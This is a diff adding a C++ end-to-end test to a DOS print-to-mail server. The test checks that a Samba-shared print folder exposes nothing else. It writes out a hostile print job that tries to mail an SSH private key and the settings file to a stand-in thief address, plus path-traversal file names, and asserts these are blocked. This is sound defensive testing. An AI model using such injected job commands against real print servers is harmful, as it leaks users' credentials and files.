@@ -1,6 +1,7 @@
 #include "Ink.h"
 #include "PdfTools.h"
 #include "Profile.h"
+#include "SambaShare.h"
 #include "ServerProcess.h"
 #include "SmtpPeer.h"
 #include "TempFolders.h"
@@ -168,4 +169,56 @@ TEST(EndToEnd, ADosProgramUnderDosBoxPrintsAMailJobThatArrivesAsOneMailWithItsPd
          {QRect(box.left(), box.top(), box.width(), 1), QRect(box.left(), box.bottom(), box.width(), 1),
           QRect(box.left(), box.top(), 1, box.height()), QRect(box.right(), box.top(), 1, box.height())})
         EXPECT_EQ(colourShare(page, Qt::black, 127, edge), 1.0);
+}
+
+// The README's network recipe followed on this computer: a Samba share of a print-file
+// folder of its own, a DOS PC (a client of the share) printing into it. Through the share
+// it reaches neither the settings nor the spool, and its print file cannot get the user's
+// files mailed; a picture it put on its drive goes with the mail.
+TEST(EndToEnd, TheNetworkRecipeSharesThePrintFilesAndNothingElse)
+{
+    QFile readme(testDataPath("../../README.md"));
+    ASSERT_TRUE(readme.open(QIODevice::ReadOnly));
+    const QString text = QString::fromUtf8(readme.readAll());
+    const QString shareBlock = QRegularExpression("\\[DRUCK\\]\\n((?: {6}\\S[^\\n]*\\n)+)").match(text).captured(1);
+    const QString printFolderLine = QRegularExpression("PrintFileFolder=(\\S+)").match(text).captured(1);
+    ASSERT_FALSE(shareBlock.isEmpty() || printFolderLine.isEmpty()) << "README: no share or PrintFileFolder";
+
+    TempFolders dirs;
+    SmtpPeer peer;
+    ASSERT_TRUE(peer.isRunning()) << peer.error().toStdString();
+    const QString printFolder = dirs.root() + "/druck", pdfFolder = dirs.root() + "/pdf";
+    for (const QString& folder : {printFolder, pdfFolder})
+        QDir().mkpath(folder);
+    const QByteArray settings = "[Pserver]\nPrintFileFolder=" + printFolder.toLocal8Bit() +
+                                "\nAutoStart=1\nHideMode=1\nAutoStartDelay=0\nMailDirect=1\nMailPW=geheim\n"
+                                "SmtpServer=" +
+                                peer.url().toLocal8Bit() + "\nPDFFolder=" + pdfFolder.toLocal8Bit() +
+                                "\n[PDevice]\nPrinter0=e-Mail\n";
+    TempFolders::writeFile(dirs.settingsFile(), settings);
+    QString share = shareBlock;
+    share.replace(printFolderLine, printFolder).replace(QRegularExpression("force user = \\S+"), "force user = root");
+    SambaShare samba(share);
+    ASSERT_TRUE(samba.isRunning()) << "smbd";
+    ServerProcess server(dirs.serverEnvironment());
+
+    const QString secret = TempFolders::writeFile(dirs.root() + "/home/.ssh/id_rsa", "GEHEIM\n");
+    const QString job =
+        TempFolders::writeFile(dirs.root() + "/job.dat",
+                               "@EMAIL dieb@x.test\r\n@ANHANG " + secret.toLocal8Bit() + "\r\n@ANHANG " +
+                                   dirs.settingsFile().toLocal8Bit() + "\r\n@ANHANG ..\\appdata\\PS.INI\r\n@TXTEMAIL " +
+                                   secret.toLocal8Bit() + "\r\n@ANHANG D:\\LOGO.BMP\r\nRechnung\r\n");
+    const QString logo = TempFolders::writePicture(dirs.root() + "/logo.bmp", 20, 10, Qt::blue, "BMP");
+    EXPECT_FALSE(samba.client("get ..\\appdata\\PS.INI " + dirs.root() + "/geholt.ini").ok());
+    ASSERT_TRUE(samba.client("put " + logo + " LOGO.BMP; put " + job + " D.DAT").ok());
+
+    ASSERT_TRUE(peer.waitForMails(1, 20000)) << server.errors().toStdString();
+    const SmtpPeer::Mail mail = peer.mails().first();
+    ASSERT_EQ(mail.attachments.size(), 2);
+    EXPECT_EQ(mail.attachments[1].fileName, "LOGO.BMP");
+    EXPECT_FALSE(mail.body.contains("GEHEIM"));
+    EXPECT_FALSE(QFileInfo::exists(dirs.root() + "/geholt.ini"));
+    QFile ini(dirs.settingsFile());
+    ASSERT_TRUE(ini.open(QIODevice::ReadOnly));
+    EXPECT_EQ(ini.readAll(), settings);
 }
